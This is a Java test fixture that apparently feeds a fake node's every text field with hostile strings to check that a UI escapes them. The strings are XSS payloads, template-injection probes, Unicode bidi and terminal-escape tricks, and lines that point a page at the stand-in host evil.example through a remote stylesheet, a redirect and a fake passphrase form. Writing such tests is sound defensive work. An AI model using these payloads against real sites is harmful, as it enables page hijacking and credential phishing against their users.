package org.thitsar.ui.testkit;

import java.util.List;
import org.thitsar.node.api.Standing;

/// Nodes whose every text was written by somebody who wants to take over the page.
public final class HostileNode {
  /// Ways to get out of a text, an attribute, an address, a style, a comment, or to turn a line
  /// around. Where a script would run it sets the page's title to `owned`.
  public static final List<String> TEXTS =
      List.of(
          "<script>document.title='owned'</script>",
          "\"><img src=x onerror=\"document.title='owned'\">",
          "'><svg onload=document.title='owned'>",
          "</title></style></textarea><script>document.title='owned'</script>",
          "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
          "javascript:document.title='owned'",
          "<a href=javascript:document.title='owned' autofocus onfocus=document.title='owned'>x",
          "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>",
          "--><script>document.title='owned'</script><!--",
          "]]><script>document.title='owned'</script>",
          "&lt;script&gt;document.title='owned'&lt;/script&gt;",
          "${document.title} @raw() !{x} {{x}}",
          "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
          "<form action=//evil.example/><input name=x><button>Enter passphrase",
          "\u202Egnp.exe\u2066 \u200Fabc\u2029 \u001B[2J \u0000",
          "က္".repeat(200) + "<b>");

  private HostileNode() {}

  /// A node that says `text` wherever it can say something.
  public static FakeNode saying(String text) {
    return new FakeNode()
        .with(
            new Standing.Status(
                text, text, text, text, text, List.of(text), 1, 2, 3, 4, 5, 6, 7, text, text, text))
        .withPeers(
            List.of(
                new Standing.Peer(text, text, text, "CONNECTED", text, text, 1, true, true),
                new Standing.Peer(text, "", text, text, text, "", 0, false, true)))
        .withExposures(List.of(new Standing.Exposure(text, text, 1, List.of(text, text))));
  }
}
